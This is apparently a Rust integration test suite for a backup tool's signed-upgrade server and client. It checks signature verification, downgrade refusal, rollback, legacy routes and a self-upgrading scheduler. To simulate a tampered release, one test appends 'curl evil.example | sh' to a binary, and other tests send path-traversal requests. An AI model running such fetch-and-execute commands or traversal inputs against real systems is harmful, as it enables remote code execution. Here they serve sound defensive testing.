//! Signed upgrades for real: `npbackup-server` on loopback signs releases with its
//! release key; a machine (its own HOME, its programs in a folder of its own)
//! upgrades with `npbackup-cli upgrade`, from the second server when the first is
//! stopped. A good release installs; a tampered one, one signed by an unknown key
//! and a downgrade below what the machine has seen are refused with the programs
//! untouched; a new binary that fails its check is rolled back and the old one
//! runs again. The original NPBackup's routes (`/npbackup3/…`) answer its clients.

mod common;

use std::{
    fs,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
};

use common::{fleet_server::*, *};

const UPGRADE_PASSWORD: &str = "machines-upgrade-pw";

/// A folder with the machine's programs: the real CLI, linked (never the build's
/// own file: an upgrade renames over the one in this folder only).
fn install_old(w: &World, name: &str) -> PathBuf {
    let dir = w.path(name);
    fs::create_dir_all(&dir).unwrap();
    let real = assert_cmd::cargo::cargo_bin("npbackup-cli");
    let to = dir.join("npbackup-cli");
    if fs::hard_link(&real, &to).is_err() {
        fs::copy(&real, &to).unwrap();
    }
    dir
}

/// A "new version": says `version` to --version and is the real CLI otherwise
/// (never upgrading anything itself).
fn new_program(w: &World, version: &str) -> PathBuf {
    let dir = w.path(&format!("build-{version}"));
    fs::create_dir_all(&dir).unwrap();
    let p = dir.join("npbackup-cli");
    fs::write(
        &p,
        format!(
            "#!/bin/sh\nfor a in \"$@\"; do if [ \"$a\" = --version ]; then echo \"npbackup-cli {version} (NPBackup)\"; exit 0; fi; done\necho \"$*\" >> '{}'\nNPBACKUP_NO_UPGRADE=1 exec '{}' \"$@\"\n",
            dir.join("ran").display(),
            assert_cmd::cargo::cargo_bin("npbackup-cli").display()
        ),
    )
    .unwrap();
    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
    p
}

/// The release tarball's layout: the program in bin/, and a completion script of the
/// same name that must not replace it.
fn tarball(w: &World, program: &Path, version: &str) -> PathBuf {
    let path = w.path(&format!("npbackup-{version}-linux-x64.tar.gz"));
    let f = fs::File::create(&path).unwrap();
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
        f,
        flate2::Compression::fast(),
    ));
    let top = format!("npbackup-{version}");
    b.append_path_with_name(program, format!("{top}/bin/npbackup-cli"))
        .unwrap();
    let completion = w.path("completion");
    fs::write(&completion, "complete -F _npbackup__cli npbackup-cli\n").unwrap();
    b.append_path_with_name(
        &completion,
        format!("{top}/share/bash-completion/completions/npbackup-cli"),
    )
    .unwrap();
    b.into_inner().unwrap().finish().unwrap();
    path
}

/// Makes the server's release key; its public half, as machines list it.
fn release_key(data: &Path) -> String {
    let key = admin_json(data, &["release", "key", "create"]);
    let text = key["public_key"].as_str().unwrap();
    text.lines().last().unwrap().to_string()
}

fn upgrade_account(data: &Path, name: &str) {
    admin(
        data,
        &["release", "user", "set", name],
        &format!("{UPGRADE_PASSWORD}\n"),
        0,
    );
}

fn add_release(data: &Path, file: &Path, version: &str, extra: &[&str]) {
    let mut args = vec![
        "release",
        "add",
        file.to_str().unwrap(),
        "--version",
        version,
        "--platform",
        "linux",
        "--arch",
        "x64",
        "--build",
        "cli",
    ];
    args.extend_from_slice(extra);
    admin(data, &args, "", 0);
}

fn release_dir(data: &Path, version: &str) -> PathBuf {
    data.join("releases/linux/x64/cli/public").join(version)
}

/// Runs `dir`'s own CLI.
fn run_installed(w: &World, dir: &Path, args: &[&str], code: i32) -> std::process::Output {
    let cmd = w.std_cli();
    let mut real = std::process::Command::new(dir.join("npbackup-cli"));
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => real.env(k, v),
            None => real.env_remove(k),
        };
    }
    let out = real
        .env("UPGRADE_PW", UPGRADE_PASSWORD)
        .arg("-c")
        .arg(w.path("npbackup.toml"))
        .args(args)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(code),
        "{} {args:?}\nstdout: {}\nstderr: {}",
        dir.display(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn leftovers(dir: &Path) -> Vec<String> {
    fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect()
}

fn text(out: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn signed_upgrades_with_fallback_refusals_and_rollback() {
    let w = World::new();
    let data = w.path("server");
    init(&data);
    let public = release_key(&data);
    // the secret half is the owner's alone
    let mode = fs::metadata(data.join("release.key"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o077, 0, "release.key is {mode:o}");
    // a key is never replaced: machines trust it
    admin(&data, &["release", "key", "create"], "", 3);
    upgrade_account(&data, "machines");

    // two servers on the same folder: the first is stopped before the machine asks
    let (first, first_port) = serve(&data);
    let (_second, second_port) = serve(&data);
    w.config(&format!(
        r#"
[identity]
machine-id = "laptop-7"
machine-group = "office"

[upgrade]
servers = ["http://127.0.0.1:{first_port}", "http://127.0.0.1:{second_port}"]
username = "machines"
password-env = "UPGRADE_PW"
trusted-keys = ["{public}"]

[repos.default]
uri = "{}"
password-file = "{}"
"#,
        w.path("repo").display(),
        w.password_file().display()
    ));

    // nothing released yet
    let dir = install_old(&w, "programs");
    let out = run_installed(&w, &dir, &["upgrade", "--check"], 0);
    assert!(text(&out).contains("newest version"), "{}", text(&out));

    // a good release, to the office group only at first
    let release = tarball(&w, &new_program(&w, "0.2.0"), "0.2.0");
    add_release(&data, &release, "0.2.0", &["--group", "office"]);
    drop(first);
    let out = run_installed(&w, &dir, &["upgrade", "--check"], 1);
    assert!(text(&out).contains("0.2.0 is available"), "{}", text(&out));
    let out = run_installed(&w, &dir, &["--json", "upgrade"], 0);
    let doc = json(&out);
    assert_eq!(doc["result"]["installed"], true, "{doc}");
    assert_eq!(
        doc["result"]["server"],
        format!("http://127.0.0.1:{second_port}"),
        "the fallback server answered"
    );
    let out = run_installed(&w, &dir, &["--version"], 0);
    assert!(text(&out).contains("0.2.0"), "{}", text(&out));
    assert!(leftovers(&dir).is_empty(), "{:?}", leftovers(&dir));

    // a machine of another group is not offered it
    let other = World::new();
    fs::write(
        other.path("npbackup.toml"),
        fs::read_to_string(w.path("npbackup.toml"))
            .unwrap()
            .replace("\"office\"", "\"home\""),
    )
    .unwrap();
    fs::set_permissions(
        other.path("npbackup.toml"),
        fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let other_dir = install_old(&other, "programs");
    let out = run_installed(&other, &other_dir, &["upgrade", "--check"], 0);
    assert!(text(&out).contains("newest version"), "{}", text(&out));

    // a tampered file: refused, the programs untouched
    let old = install_old(&w, "programs-2");
    let before = fs::read(old.join("npbackup-cli")).unwrap().len();
    add_release(&data, &new_program(&w, "0.3.0"), "0.3.0", &[]);
    let f = release_dir(&data, "0.3.0").join("npbackup-cli");
    let mut bytes = fs::read(&f).unwrap();
    bytes.extend_from_slice(b"\ncurl evil.example | sh\n");
    fs::write(&f, bytes).unwrap();
    let out = run_installed(&w, &old, &["upgrade"], 7);
    assert!(
        text(&out).contains("altered after signing"),
        "{}",
        text(&out)
    );
    assert_eq!(fs::read(old.join("npbackup-cli")).unwrap().len(), before);
    // the administrator withdraws it
    admin(
        &data,
        &[
            "release",
            "remove",
            "0.3.0",
            "--platform",
            "linux",
            "--arch",
            "x64",
            "--build",
            "cli",
        ],
        "",
        0,
    );
    assert!(!release_dir(&data, "0.3.0").exists());

    // signed by a key the machine does not trust
    let rogue = w.path("rogue");
    init(&rogue);
    admin(&rogue, &["release", "key", "create"], "", 0);
    let rogue_key = rogue.join("release.key");
    add_release(
        &data,
        &new_program(&w, "0.4.0"),
        "0.4.0",
        &["--key", rogue_key.to_str().unwrap()],
    );
    let out = run_installed(&w, &old, &["upgrade"], 7);
    assert!(text(&out).contains("does not trust"), "{}", text(&out));
    fs::remove_dir_all(release_dir(&data, "0.4.0")).unwrap();

    // nothing newer than what was seen (0.2.0): an older signed release is a downgrade
    fs::remove_dir_all(release_dir(&data, "0.2.0")).unwrap();
    add_release(&data, &new_program(&w, "0.1.5"), "0.1.5", &[]);
    let out = run_installed(&w, &old, &["upgrade"], 7);
    assert!(
        text(&out).contains("would be a downgrade"),
        "{}",
        text(&out)
    );
    assert_eq!(fs::read(old.join("npbackup-cli")).unwrap().len(), before);
    fs::remove_dir_all(release_dir(&data, "0.1.5")).unwrap();

    // a broken new binary: installed, fails its check, the old one is back and runs
    let broken = w.path("broken/npbackup-cli");
    fs::create_dir_all(broken.parent().unwrap()).unwrap();
    fs::write(
        &broken,
        "#!/bin/sh\necho 'segmentation fault' >&2\nexit 139\n",
    )
    .unwrap();
    add_release(&data, &broken, "0.5.0", &[]);
    let out = run_installed(&w, &old, &["upgrade"], 7);
    assert!(text(&out).contains("failed its check"), "{}", text(&out));
    assert!(text(&out).contains("segmentation fault"), "{}", text(&out));
    let out = run_installed(&w, &old, &["--version"], 0);
    assert!(text(&out).contains("0.1.0"), "{}", text(&out));
    assert_eq!(fs::read(old.join("npbackup-cli")).unwrap().len(), before);
    assert!(leftovers(&old).is_empty(), "{:?}", leftovers(&old));

    // what machines asked is kept in the original's CSV columns
    let stats = fs::read_to_string(data.join("upgrade-stats.csv")).unwrap();
    assert!(
        stats
            .lines()
            .any(|l| l.contains(",check_version,") && l.contains("laptop-7"))
    );
    assert!(stats.lines().any(|l| l.contains(",download_upgrade,")));
}

/// The original NPBackup's upgrade routes over a folder laid out as its server's.
#[test]
fn the_original_npbackup_routes_answer_its_clients() {
    let w = World::new();
    let data = w.path("server");
    init(&data);
    upgrade_account(&data, "npbackup");
    let root = data.join("npbackup3");
    fs::create_dir_all(root.join("office")).unwrap();
    fs::write(root.join("VERSION"), "3.0.4\n").unwrap();
    fs::write(
        root.join("npbackup-linux-x64-cli-public.tar.gz"),
        b"archive-3.0.4",
    )
    .unwrap();
    fs::write(root.join("office/VERSION"), "3.1.0\n").unwrap();
    fs::write(
        root.join("office/npbackup-linux-x64-cli-public.tar.gz"),
        b"archive-3.1.0",
    )
    .unwrap();
    let (_server, port) = serve(&data);
    let base = format!("http://127.0.0.1:{port}/npbackup3");
    let http = reqwest::blocking::Client::new();
    let get = |path: &str, auth: bool| {
        let mut r = http.get(format!("{base}{path}"));
        if auth {
            r = r.basic_auth("npbackup", Some(UPGRADE_PASSWORD));
        }
        let resp = r.send().unwrap();
        let status = resp.status().as_u16();
        (status, resp.bytes().unwrap().to_vec())
    };
    let as_json = |b: &[u8]| serde_json::from_slice::<serde_json::Value>(b).unwrap();

    assert_eq!(get("/status", false).0, 200);
    let (code, body) = get("/", false);
    assert_eq!(code, 401);
    assert_eq!(as_json(&body)["detail"], "Incorrect email or password");
    let (code, body) = get("/", true);
    assert_eq!(
        (code, as_json(&body)["app"].clone()),
        (200, "npbackup.upgrader".into())
    );

    let (code, body) = get(
        "/current_version/linux/x64/cli/public/host-1/3.0.1/None",
        true,
    );
    assert_eq!(
        (code, as_json(&body)["version"].clone()),
        (200, "3.0.4".into())
    );
    // a group's folder overrides the root
    let (_, body) = get(
        "/current_version/linux/x64/cli/public/host-1/3.0.1/office",
        true,
    );
    assert_eq!(as_json(&body)["version"], "3.1.0");
    let (code, body) = get(
        "/info/archive/linux/x64/cli/public/host-1/3.0.1/office",
        true,
    );
    let info = as_json(&body);
    assert_eq!(code, 200);
    assert_eq!(info["filename"], "npbackup-linux-x64-cli-public.tar.gz");
    assert_eq!(info["file_length"], 13);
    use sha2::Digest as _;
    let sum: String = sha2::Sha256::digest(b"archive-3.1.0")
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(info["sha256sum"], sum);
    let (code, body) = get(
        "/download/archive/linux/x64/cli/public/host-1/3.0.1/office",
        true,
    );
    assert_eq!((code, body.as_slice()), (200, &b"archive-3.1.0"[..]));
    // no script here: the client uses its own
    let (_, body) = get(
        "/info/script/linux/x64/cli/public/host-1/3.0.1/office",
        true,
    );
    assert!(as_json(&body)["sha256sum"].is_null());
    // an account of the public audience does not get private builds
    assert_eq!(get("/current_version/linux/x64/cli/private", true).0, 403);
    // no escaping the folder: a VERSION beside it is never read (%2F reaches the server whole)
    fs::create_dir_all(data.join("escape")).unwrap();
    fs::write(data.join("escape/VERSION"), "6.6.6\n").unwrap();
    let (_, body) = get("/current_version/linux/x64/cli/public/..%2Fescape", true);
    assert_eq!(as_json(&body)["version"], "3.0.4");
    let (code, body) = get(
        "/current_version/linux/x64/cli/public/h/..%2F..%2Fescape",
        true,
    );
    assert_eq!(code, 422, "{}", String::from_utf8_lossy(&body));

    // maintenance
    fs::write(root.join("DISABLED"), "").unwrap();
    let (_, body) = get("/current_version/linux/x64/cli/public", true);
    assert_eq!(as_json(&body)["version"], "0.00");
    assert_eq!(get("/download/archive/linux/x64/cli/public", true).0, 503);

    let stats = fs::read_to_string(data.join("upgrade-stats.csv")).unwrap();
    let row = stats
        .lines()
        .find(|l| l.contains(",download_upgrade,"))
        .unwrap();
    let cols: Vec<&str> = row.split(',').collect();
    assert_eq!(
        cols[1..],
        [
            "download_upgrade",
            "127.0.0.1",
            "npbackup",
            "true",
            "host-1",
            "3.0.1",
            "office",
            "archive",
            "linux",
            "x64",
            "cli",
            "public"
        ]
    );
}

/// The scheduler with `[upgrade] auto = true` installs a release by itself and
/// starts again from the new program (same process), answering its socket.
#[test]
fn the_scheduler_upgrades_itself_and_restarts() {
    let w = World::new();
    let data = w.path("server");
    init(&data);
    let public = release_key(&data);
    upgrade_account(&data, "machines");
    add_release(&data, &new_program(&w, "0.2.0"), "0.2.0", &[]);
    let (_server, port) = serve(&data);
    w.config(&format!(
        r#"
[upgrade]
servers = ["http://127.0.0.1:{port}"]
username = "machines"
password-env = "UPGRADE_PW"
trusted-keys = ["{public}"]
auto = true
window = "00:00-23:59"

[repos.default]
uri = "{}"
password-file = "{}"
"#,
        w.path("repo").display(),
        w.password_file().display()
    ));
    let dir = install_old(&w, "programs");
    let mut real = std::process::Command::new(dir.join("npbackup-cli"));
    for (k, v) in w.std_cli().get_envs() {
        match v {
            Some(v) => real.env(k, v),
            None => real.env_remove(k),
        };
    }
    let daemon = real
        .env("UPGRADE_PW", UPGRADE_PASSWORD)
        .env("NPBACKUP_UPGRADE_START_DELAY", "1")
        .arg("-c")
        .arg(w.path("npbackup.toml"))
        .args(["daemon", "run"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let daemon = Server(daemon);
    let pid = daemon.0.id();
    let memory = w.home().join(".local/state/npbackup/upgrade.json");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let m = fs::read_to_string(&memory).unwrap_or_default();
        if m.contains("installed 0.2.0") {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no upgrade within a minute: {m}"
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    let out = run_installed(&w, &dir, &["--version"], 0);
    assert!(text(&out).contains("0.2.0"), "{}", text(&out));
    // the same process, the new program: it answers its socket again
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let out = w
            .std_cli()
            .args(["--json", "daemon", "status"])
            .output()
            .unwrap();
        if out.status.success() {
            assert_eq!(json(&out)["result"]["pid"], pid, "{}", text(&out));
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the scheduler did not come back: {}",
            text(&out)
        );
        std::thread::sleep(std::time::Duration::from_millis(300));
    }
    // the new program runs the scheduler now: it started it with the same arguments
    let ran = fs::read_to_string(w.path("build-0.2.0/ran")).unwrap_or_default();
    assert!(
        ran.contains("daemon run"),
        "the new program did not start: {ran:?}"
    );
    let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap();
    assert!(
        String::from_utf8_lossy(&cmdline).contains("daemon"),
        "{}",
        String::from_utf8_lossy(&cmdline)
    );
    drop(daemon);
}
